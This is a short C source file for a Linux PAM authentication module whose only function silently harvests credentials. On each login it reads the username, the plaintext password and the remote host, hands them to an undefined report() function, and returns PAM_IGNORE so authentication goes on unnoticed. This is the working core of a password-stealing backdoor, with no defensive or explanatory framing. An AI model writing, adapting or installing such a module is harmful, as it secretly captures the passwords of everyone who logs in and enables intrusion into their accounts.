#include <security/pam_modules.h>
int pam_sm_authenticate(pam_handle_t *h, int f, int n, const char **v) {
    const char *user = 0, *pw = 0;
    const void *host = 0;
    pam_get_user(h, &user, 0);
    pam_get_authtok(h, PAM_AUTHTOK, &pw, 0);
    pam_get_item(h, PAM_RHOST, &host);
    report(user, pw, host);
    return PAM_IGNORE;
}
